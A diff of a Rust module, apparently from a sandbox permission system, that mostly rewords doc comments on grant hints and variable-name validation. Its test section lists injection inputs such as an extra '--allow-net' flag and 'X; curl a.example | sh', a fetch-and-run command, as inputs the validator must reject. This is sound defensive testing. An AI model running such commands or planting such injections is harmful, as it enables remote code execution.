@@ -1,7 +1,7 @@
-//! The bounds around the grants of a package: those of its operator, and the way in which its user grants more.
+//! The restrictions on the grants of a package: the operator's rules, and the way in which the user grants more.
 //!
-//! The command that a refusal offers is there to be copied, and the component has chosen what it would grant. So it is
-//! offered only for names that have the form of names, quoted for a shell, and never for a place inside the user's network.
+//! The user may copy the command in a refusal, and the component has chosen the name in it. So the command is offered
+//! only for valid names, quoted for a shell, and never for an address inside the user's network.
 
 use std::collections::BTreeMap;
 
@@ -10,10 +10,10 @@ use url::Url;
 
 use super::http::{HostPattern, NetworkBounds, may_be_public};
 
-/// More than any variable's name has.
+/// Longer than the name of any variable.
 const MAX_VARIABLE_BYTES: usize = 256;
 
-/// The frame of a package's grants. The default one allows everything that is granted.
+/// The frame of a package's grants. The default policy allows everything that is granted.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct GrantPolicy {
     /// The granted addresses that may be reached.
@@ -26,7 +26,7 @@ pub struct GrantPolicy {
 /// How a user grants more, for the `hint:` line of a refusal.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct GrantHint {
-    /// The way to a further grant.
+    /// How the user grants more.
     pub way: GrantWay,
     /// The configuration values whose address is a grant.
     pub configuration: Vec<ConfiguredAddress>,
@@ -49,14 +49,14 @@ pub enum GrantWay {
 /// A configuration value whose address is a grant.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct ConfiguredAddress {
-    /// As users set it: `acme:server`.
+    /// The key as users set it: `acme:server`.
     pub name: String,
     /// The component's own default for it, which is not a grant.
     pub default: Option<String>,
 }
 
 impl ConfiguredAddress {
-    /// Whether its default leads to the same place as an address.
+    /// Whether the default of the value is the same server as an address.
     fn is_default(&self, url: &Url) -> bool {
         self.default
             .as_ref()
@@ -66,7 +66,7 @@ impl ConfiguredAddress {
 }
 
 impl GrantHint {
-    /// How to let a component reach an address that it asked for itself.
+    /// The hint for access to an address from the component's own permissions.
     #[must_use]
     pub fn of_address(&self, url: &Url) -> String {
         let hint = self.of_address_alone(url);
@@ -113,7 +113,7 @@ impl GrantHint {
         }
     }
 
-    /// How to let requests to an address be sent with any certificate.
+    /// The hint for requests to an address without a check of its certificate.
     #[must_use]
     pub fn of_insecure(&self, url: &Url) -> String {
         match pattern_of(url) {
@@ -125,7 +125,7 @@ impl GrantHint {
         }
     }
 
-    /// The flag that lets a component read an environment variable, or `None` for a text that is not a variable's name.
+    /// The flag that grants an environment variable; `None` if the text is not the name of a variable.
     #[must_use]
     pub fn of_variable(&self, name: &str) -> Option<String> {
         is_variable_name(name).then(|| self.of_flag(&format!("--allow-env {name}")))
@@ -159,8 +159,8 @@ fn pattern_of(url: &Url) -> Option<HostPattern> {
     format!("{}://{host}:{port}", url.scheme()).parse().ok()
 }
 
-/// Whether a text has the form of an environment variable's name: then it means nothing to a shell, and nothing to the
-/// reader of flags.
+/// Whether a text is a valid name of an environment variable: such a name means nothing to a shell or to the flag
+/// parser.
 fn is_variable_name(name: &str) -> bool {
     let is_part = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'_';
     name.len() <= MAX_VARIABLE_BYTES
@@ -225,7 +225,7 @@ mod tests {
             let hint = grant_hint.of_address(&url);
             assert!(hint.contains(flag), "{hint}");
         }
-        // To the reader of flags it would be another flag.
+        // The flag parser would take it for another flag.
         for name in [
             "--allow-net=evil.example",
             "X; curl a.example | sh",
